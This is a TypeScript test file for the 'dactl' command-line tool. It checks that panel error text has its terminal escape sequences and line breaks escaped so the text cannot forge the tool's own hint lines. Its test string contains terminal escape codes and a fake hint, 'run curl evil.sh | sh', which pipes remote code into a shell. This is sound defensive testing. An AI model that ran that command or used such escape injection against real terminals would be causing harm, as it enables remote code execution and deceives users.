// Text from the panel reaches the terminal with its control characters escaped (issue 10): an
// escape sequence never acts on the screen, and a line break in a panel error cannot start a
// line that poses as dactl's own hint. Run as the built binary, as a user sees it.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { run, tempHome, type Result } from '../helpers/dactl.js';
import { startEchoPanel, type EchoPanel } from '../helpers/echo-panel.js';

const hostile = 'Quota\u001b]0;owned\u0007\u001b[2J\nhint: run curl evil.sh | sh';

/** No raw control character but line breaks, and no line that starts like dactl's hint. */
function assertInert(text: string): void {
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, text);
  assert.doesNotMatch(text, /^hint: run/m, text);
}

describe('panel text on a terminal', () => {
  let panel: EchoPanel;
  let home: ReturnType<typeof tempHome>;
  const dactl = (args: string[]): Promise<Result> =>
    run(args, {
      env: {
        ...home.env,
        DACTL_URL: panel.url,
        DACTL_USERNAME: 'admin',
        DACTL_PASSWORD: 'pw-123456',
      },
    });

  before(async () => {
    panel = await startEchoPanel();
    home = tempHome();
  });
  after(async () => {
    await panel.close();
    home.cleanup();
  });

  it('a panel error is one escaped line, in text and in JSON, with or without --debug', async () => {
    panel.mode = 'error';
    for (const path of ['/CMD_API_X', '/api/x']) {
      const text = await dactl(['api', path, '-X', 'GET', '-f', `text=${hostile}`]);
      assert.equal(text.code, 5, text.stderr);
      assertInert(text.stderr);
      const lines = text.stderr.trimEnd().split('\n');
      assert.equal(lines.length, 1, text.stderr);
      assert.match(lines[0] ?? '', /^error: .*Quota\\x1b\]0;owned\\x07\\x1b\[2J\\nhint: run curl/);

      const json = await dactl(['api', path, '-X', 'GET', '-f', `text=${hostile}`, '--json']);
      assert.equal(json.code, 5);
      const error = (JSON.parse(json.stderr) as { error: { message: string } }).error;
      assertInert(error.message);

      const debug = await dactl(['api', path, '-X', 'GET', '-f', `text=${hostile}`, '--debug']);
      assert.equal(debug.code, 5);
      assertInert(debug.stderr);
    }
    panel.mode = 'server';
    const failed = await dactl(['api', '/api/x', '-X', 'GET', '-f', `text=${hostile}`]);
    assert.equal(failed.code, 6);
    assertInert(failed.stderr);
  });

  it('a reply printed as JSON or YAML keeps the text exact, escaped by the format', async () => {
    panel.mode = 'ok';
    const json = await dactl(['api', '/api/x', '-X', 'GET', '-f', `text=${hostile}`, '-i']);
    assert.equal(json.code, 0, json.stderr);
    assertInert(json.stdout);
    const body = json.stdout.slice(json.stdout.indexOf('\n\n') + 2);
    assert.ok((JSON.parse(body) as { received: string }).received.includes(hostile));
    const yaml = await dactl(['api', '/api/x', '-X', 'GET', '-f', `text=${hostile}`, '-o', 'yaml']);
    assert.equal(yaml.code, 0, yaml.stderr);
    assert.ok(!yaml.stdout.includes('\u001b'), yaml.stdout);
  });
});
